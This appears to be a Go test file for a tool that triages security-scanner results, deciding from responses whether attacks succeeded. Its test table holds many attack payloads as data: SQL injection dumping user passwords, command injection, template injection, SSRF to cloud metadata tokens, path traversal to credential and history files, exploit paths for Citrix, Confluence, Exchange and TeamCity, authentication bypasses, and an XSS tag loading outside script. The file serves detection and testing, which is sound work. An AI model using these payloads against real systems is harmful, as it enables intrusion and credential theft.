package triage

import (
	"strings"
	"testing"
)

// What queries, commands and files give, as answers of many kinds have it, and what looks like it.
func TestEffects(t *testing.T) {
	const (
		json  = "application/json"
		text  = "text/plain"
		users = "1' union select name,password from users-- "
		// The forms of hashes, with invented values.
		bcrypt = "$2y$10$Qm3vK8sT1uV5wX7yZ9aBcOeFgHiJkLmNoPqRsTuVwXyZ01234567a"
		phpass = "$P$BkEr2r9zQ4mT6uYw8VxZs1nJpLcHd0."
		md5    = "5ebe2294ecd0e0f08eab7690d2a6ee69"
	)
	for name, c := range map[string]struct {
		attempt
		want     Outcome
		evidence string
	}{
		// Queries.
		"hash":                       {attempt{kind: "sqli", payload: users, body: "<h2>ann</h2><p>" + phpass + "</p>"}, Success, "hashes"},
		"hash, in JSON":              {attempt{kind: "sqli", payload: users, mime: json, body: `{"data":[{"title":"ann","n":"$wp` + bcrypt + `"}]}`}, Success, "hashes"},
		"hash that was sent":         {attempt{kind: "sqli", payload: users + bcrypt, body: users + bcrypt}, Unknown, ""},
		"hash, no query":             {attempt{kind: "sqli", payload: "1' or 1=1", body: bcrypt}, Unknown, ""},
		"digests":                    {attempt{kind: "sqli", payload: users, mime: json, body: `[{"name":"ann","price":"` + md5 + `"},{"name":"bob","price":"7c6a180b36896a0a8c02787eeafb0e4c"}]`}, Success, "digests"},
		"digest of a file":           {attempt{kind: "sqli", payload: users, body: `<script src="/main.` + md5 + `.js"></script><link href="/a.7c6a180b36896a0a8c02787eeafb0e4c.css">`}, Unknown, ""},
		"digests, not asked for":     {attempt{kind: "sqli", payload: "1 union select 1,2", mime: json, body: `["` + md5 + `","7c6a180b36896a0a8c02787eeafb0e4c"]`}, Unknown, ""},
		"schema":                     {attempt{kind: "sqli", payload: "1 union select sql from sqlite_master", mime: json, body: "[{\"id\":\"CREATE TABLE `Users` (`id` INTEGER)\"}]"}, Success, "schema"},
		"tables":                     {attempt{kind: "sqli", payload: "1 union select group_concat(table_name) from information_schema.tables", body: "<h3>customers,invoices,staff</h3>"}, Success, "tables"},
		"tags of an article":         {attempt{kind: "sqli", payload: "1 union select 1", body: "<p>red,green,blue</p>"}, Unknown, ""},
		"version":                    {attempt{kind: "sqli", payload: "1 union select @@version", body: "<h3>10.6.16-MariaDB</h3>"}, Success, "version"},
		"version of a library":       {attempt{kind: "sqli", payload: "1 union select @@version", body: "<script src=/jquery-3.7.1.min.js>"}, Unknown, ""},
		"error of Oracle that tells": {attempt{kind: "sqli", payload: "1||utl_inaddr.get_host_address((select banner from v$version))", status: "500", body: "ORA-29257: host Oracle Database 19c unknown"}, Success, "quotes"},

		// Commands.
		"account of a service":       {attempt{kind: "rce", payload: "';exec xp_cmdshell 'whoami'--", body: "<td>nt service\\mssqlserver</td>"}, Success, "whoami"},
		"account, nothing else":      {attempt{kind: "rce", payload: "whoami", body: "<pre>tomcat\n</pre>"}, Success, "whoami"},
		"account of a domain":        {attempt{kind: "rce", payload: "|whoami", mime: text, body: "corp\\svc-web$\r\n"}, Success, "whoami"},
		"done":                       {attempt{kind: "rce", payload: "|whoami", mime: text, body: "done"}, Unknown, ""},
		"account among others":       {attempt{kind: "rce", payload: "|whoami", body: "<ul><li>tomcat</li><li>jetty</li></ul>"}, Unknown, ""},
		"system of Windows":          {attempt{kind: "rce", payload: "& systeminfo", mime: json, body: `{"out":"Host Name: A\r\nOS Name:                   Microsoft Windows Server 2022\r\n"}`}, Success, "Windows"},
		"kernel, by PHP":             {attempt{kind: "injection-php", payload: "echo php_uname();", body: "->|Linux web 5.15.0-97-generic #107-Ubuntu SMP x86_64|<-"}, Success, "kernel"},
		"expr, at the end":           {attempt{kind: "rce", payload: "x\nexpr 48211 + 20304", body: "<pre>68515</pre>"}, Success, "68515"},
		"expr, and more":             {attempt{kind: "rce", payload: "x;expr 48211 + 20304;", body: "<pre>68515</pre>"}, Success, "68515"},
		"product behind a sign":      {attempt{kind: "injection-generic", payload: "${{1337*9173}}", body: "Hello $12264301"}, Success, "12264301"},
		"price":                      {attempt{kind: "injection-generic", payload: "${{300*41}}", body: "Hello $12300"}, Unknown, ""},
		"header":                     {attempt{kind: "injection-java", payload: "exec('id')", status: "302", headers: "Location: /login\r\nX-Out: uid=7(app) gid=7(app)\r\n"}, Success, "header"},
		"header that repeats":        {attempt{kind: "rce", payload: "id uid=7(app)", headers: "X-Query: id uid=7(app)\r\n"}, Unknown, ""},
		"waited, in milliseconds":    {attempt{kind: "injection-generic", payload: "sleep(5000)||true", took: "05.050"}, Success, "5.05 s"},
		"waited, Java":               {attempt{kind: "injection-java", payload: "T(Thread).sleep(7000L)", took: "07.010"}, Success, "7.01 s"},
		"did not wait, milliseconds": {attempt{kind: "injection-generic", payload: "sleep(5000)||true", took: "00.050"}, Unknown, "asks for 5 s"},

		"account, in an error":    {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "ping: www-data: Name or service not known\n"}, Success, "whoami"},
		"account, not resolved":   {attempt{kind: "rce", payload: "$(whoami)", body: "<pre>** server can't find nginx: NXDOMAIN</pre>"}, Success, "whoami"},
		"account, as an owner":    {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "file: a.txt, owner: root"}, Unknown, ""},
		"host, in an error":       {attempt{kind: "rce", payload: "`whoami`", mime: text, body: "ping: `whoami`: Name or service not known"}, Unknown, ""},
		"account, all of it":      {attempt{kind: "rce", payload: "|whoami /all", body: "<pre>\nUSER INFORMATION\n----------------\n\nUser Name  SID\n</pre>"}, Success, "whoami"},
		"privileges":              {attempt{kind: "rce", payload: "& whoami /priv", mime: text, body: "PRIVILEGES INFORMATION\r\n----\r\nPrivilege Name                Description       State\r\n"}, Success, "whoami"},
		"privileges, with carets": {attempt{kind: "rce", payload: "& w^h^o^am^i /pri^v & rem", mime: text, body: "PRIVILEGES INFORMATION\r\n----\r\nPrivilege Name                Description       State\r\n"}, Success, "whoami"},
		"login among many":        {attempt{kind: "generic", payload: "mutation { a: login(pin: 1) { token } b: login(pin: 2) { token } }", mime: json, body: `{"data":{"a":null,"b":{"token":"0123456789abcdef01"}}}`}, Success, "login"},
		"no login among many":     {attempt{kind: "generic", payload: "mutation { a: login(pin: 1) { token } b: login(pin: 2) { token } }", mime: json, body: `{"data":{"a":null,"b":{"token":""}}}`}, Unknown, ""},
		"processes of Windows":    {attempt{kind: "rce", payload: "&tasklist", mime: text, body: "\r\nImage Name                     PID Session Name\r\n"}, Success, "processes"},
		"folder, by PowerShell":   {attempt{kind: "rce", payload: "; powershell gci", mime: text, body: "Mode                 LastWriteTime         Length Name\r\n----"}, Success, "dir"},
		"registry":                {attempt{kind: "rce", payload: "& reg query HKLM\\Software", mime: text, body: "\r\nHKEY_LOCAL_MACHINE\\Software\\Classes\r\n"}, Success, "registry"},
		"file systems":            {attempt{kind: "rce", payload: ";df -h", body: "<pre>Filesystem      Size  Used Avail Use% Mounted on\n/dev/sda1</pre>"}, Success, "file systems"},
		"mounted":                 {attempt{kind: "rce", payload: ";mount", mime: text, body: "/dev/sda1 on / type ext4 (rw,relatime)\n"}, Success, "file systems"},
		"load":                    {attempt{kind: "rce", payload: ";w", mime: text, body: " 10:11:12 up 3 days,  1 user,  load average: 0.08, 0.03, 0.05\n"}, Success, "load"},
		"load, not asked for":     {attempt{kind: "rce", payload: ";id", mime: text, body: " 10:11:12 up 3 days,  1 user,  load average: 0.08, 0.03, 0.05\n"}, Unknown, ""},
		"memory":                  {attempt{kind: "rce", payload: "|free -k", mime: text, body: "              total        used\nMem:        8039416     1203404     512340\n"}, Success, "memory"},
		"routes":                  {attempt{kind: "rce", payload: ";ip route", mime: text, body: "default via 10.0.0.1 dev eth0 proto dhcp\n"}, Success, "routes"},
		"sudo":                    {attempt{kind: "rce", payload: ";sudo -l", mime: text, body: "User www-data may run the following commands on web:\n"}, Success, "sudo"},
		"names, by find":          {attempt{kind: "rce", payload: ";find / -maxdepth 1", mime: text, body: "/\n/bin\n/etc\n/home\n"}, Success, "names of files"},
		"table of cron":           {attempt{kind: "rce", payload: ";crontab -l", mime: text, body: "*/5 * * * * /srv/a.sh\n"}, Success, "cron"},
		"table of cron, repeated": {attempt{kind: "rce", payload: "my crontab is `*/5 * * * * /srv/a.sh >/dev/null`", body: "<p>my crontab is <code>*/5 * * * * /srv/a.sh &gt;/dev/null</code></p>"}, Unknown, ""},
		"containers":              {attempt{kind: "rce", payload: ";docker ps", mime: text, body: "CONTAINER ID   IMAGE     COMMAND\n"}, Success, "containers"},

		// Services inside.
		"indices":              {attempt{kind: "ssrf", payload: "http://127.0.0.1:9200/_cat/indices", mime: text, body: "green open customers x1YpQmZ2S9a 1 0 48211 0 31mb 31mb\n"}, Success, "inside"},
		"health of a cluster":  {attempt{kind: "ssrf", payload: "http://10.0.0.4:9200/_cluster/health", mime: json, body: `{"cluster_name":"logs","status":"green","timed_out":false}`}, Success, "inside"},
		"containers of a host": {attempt{kind: "ssrf", payload: "http://172.17.0.1:2375/containers/json", mime: json, body: `[{"Id":"8dfafdbc3a40","Names":["/web"],"Image":"nginx"}]`}, Success, "inside"},
		"a list of colours":    {attempt{kind: "ssrf", payload: "http://127.0.0.1/", mime: text, body: "green open door\n"}, Unknown, ""},
		"token of a machine":   {attempt{kind: "ssrf", payload: "http://169.254.169.254/metadata/identity/oauth2/token", mime: json, body: `{"access_token":"eyJ0eXAiOiJKV1Qi","expires_in":"86399"}`}, Success, "metadata"},

		"digest behind a name":       {attempt{kind: "sqli", payload: "1 union select concat(user,0x3a,password) from users", body: "<td>ann:" + md5 + "</td>"}, Success, "digests"},
		"product in brackets":        {attempt{kind: "injection-java", payload: "/%{(3331*2221)}/a", body: `<input value="7398151">`}, Success, "7398151"},
		"product, in an address":     {attempt{kind: "injection-java", payload: "/${(3331*2221)}/a", status: "302", headers: "Location: /b/7398151/c\r\n"}, Success, "7398151"},
		"product, not in an address": {attempt{kind: "injection-java", payload: "/${(3331*2221)}/a", status: "302", headers: "Location: /b/73981512/c\r\n"}, Unknown, ""},

		// Exploits.
		"Citrix, its settings":    {attempt{kind: "lfi", payload: "/vpn/../vpns/cfg/smb.conf", mime: text, body: "[global]\n\tencrypt passwords = yes\n"}, Success, "Samba"},
		"Citrix, its bookmarks":   {attempt{kind: "lfi", payload: "/vpn/../vpns/portal/scripts/newbm.pl", body: "<script>parent.window.ns_reload();</script>"}, Success, "written"},
		"Confluence, not set up":  {attempt{kind: "generic", payload: "bootstrapStatusProvider.applicationConfig.setupComplete=false", body: "success"}, Success, "changed"},
		"Confluence, set up":      {attempt{kind: "generic", payload: "bootstrapStatusProvider.applicationConfig.setupComplete=false", body: "<p>Log in with success</p>"}, Unknown, ""},
		"Exchange, as the system": {attempt{kind: "rce", payload: "/autodiscover/autodiscover.json?@x.test/mapi/nspi/", body: `<p>Exchange MAPI/HTTP Connectivity Endpoint</p><p><b>User: NT AUTHORITY\SYSTEM</b></p>`}, Success, "behind the login"},
		"TeamCity":                {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", mime: "application/xml", body: `<?xml version="1.0"?><user username="a" id="11"/>`}, Success, "behind the login"},
		"TeamCity, its login":     {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", body: `<html><title>Log in to TeamCity</title>`}, Unknown, ""},

		// Files.
		"group":                    {attempt{kind: "lfi", payload: "../../etc/group", mime: text, body: "root:x:0:\nsudo:x:27:ann\n"}, Success, "/etc/group"},
		"passwd, in base64":        {attempt{kind: "lfi", payload: "/etc/passwd", mime: json, body: `{"content":"cm9vdDp4OjA6MDpyb290Oi9yb290"}`}, Success, "base64"},
		"users of Tomcat":          {attempt{kind: "lfi", payload: "../conf/tomcat-users.xml", mime: "text/xml", body: "<?xml version='1.0'?>\n<tomcat-users xmlns='x'>"}, Success, "Tomcat"},
		"settings of Spring":       {attempt{kind: "lfi", payload: "../application.yml", mime: text, body: "spring:\n  datasource:\n    url: jdbc:x\n"}, Success, "settings"},
		"settings, as properties":  {attempt{kind: "lfi", payload: "../application.properties", mime: text, body: "server.port=8080\nspring.datasource.url=x\n"}, Success, "settings"},
		"history":                  {attempt{kind: "lfi", payload: "../../root/.bash_history", mime: text, body: "apt update\ncd /srv\nvim .env\nexit\n"}, Success, "history"},
		"a page about history":     {attempt{kind: "lfi", payload: "../../root/.bash_history", body: "<p>No file .bash_history here: cd on</p>\n<p>a</p>\n"}, Unknown, ""},
		"settings of nginx":        {attempt{kind: "lfi", payload: "../../etc/nginx/nginx.conf", mime: text, body: "user www;\nworker_processes auto;\n"}, Success, "web server"},
		"settings in sections":     {attempt{kind: "lfi", payload: "/p/../../../etc/grafana/grafana.ini", mime: text, body: "; a\n\n[server]\n# port\nhttp_port = 3000\n"}, Success, "settings"},
		"settings, of the site":    {attempt{kind: "lfi", payload: "/app.toml", mime: text, body: "[a]\nb = 1\n"}, Unknown, ""},
		"source in Python":         {attempt{kind: "lfi", uri: "/assets../app/config.py", payload: "/assets../app/config.py", mime: text, body: "# app\nimport os\nKEY = 'a'\n"}, Success, "Python"},
		"source of a page":         {attempt{kind: "lfi", payload: "../index.jsp", mime: text, body: `<%@ page import="java.util.*" %>`}, Success, "source"},
		"cron":                     {attempt{kind: "lfi", payload: "../../etc/crontab", mime: text, body: "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"}, Success, "cron"},
		"instance":                 {attempt{kind: "ssrf", payload: "http://169.254.169.254/latest/meta-data/instance-id", mime: json, body: `{"rc":200,"body":"i-0a1b2c3d4e5f60718"}`}, Success, "metadata"},
		"filter of a directory":    {attempt{kind: "ldap", payload: "*)(uid=*))(|(uid=*", request: "uid=*)(uid=*&password=x", status: "302", headers: "Location: /portal\r\nSet-Cookie: s=1\r\n"}, Success, "login was accepted"},
		"login, by pw":             {attempt{kind: "sqli", payload: "' or '1'='1", method: "POST", request: "user=a&pw='+or+'1'='1", status: "302", headers: "Location: /portal\r\nSet-Cookie: s=1\r\n"}, Success, "login was accepted"},
		"login, by Senha":          {attempt{kind: "sqli", payload: "' or '1'='1", method: "POST", mime: json, request: `{"usuario":"a","Senha":"' or '1'='1"}`, body: `{"token":"0123456789"}`}, Success, "login was accepted"},
		"filter, not let in":       {attempt{kind: "ldap", payload: "*)(uid=*))(|(uid=*", request: "uid=*)(uid=*&password=x", status: "302", headers: "Location: /?error=1\r\nSet-Cookie: s=1\r\n"}, Unknown, ""},
		"tag that all pages have":  {attempt{kind: "xss", payload: "<script src=", body: `<p>12 hits</p><script src="/js/site.js"></script>`}, Unknown, ""},
		"tag with the attacker's":  {attempt{kind: "xss", payload: "<script src=//198.51.100.7/a>", body: `<script src=//198.51.100.7/a></script>`}, Success, "script"},
		"tags, of a page that has": {attempt{kind: "xss", payload: "<iframe", body: strings.Repeat("<iframe src=/a></iframe>", 2)}, Unknown, ""},
	} {
		t.Run(name, func(t *testing.T) {
			tx, v := c.exchange(t)
			got, evidence := OutcomeOf(tx, v)
			if all := strings.Join(evidence, "; "); got != c.want || !strings.Contains(all, c.evidence) {
				t.Errorf("%s, want %s: %q", got, c.want, evidence)
			}
		})
	}
}
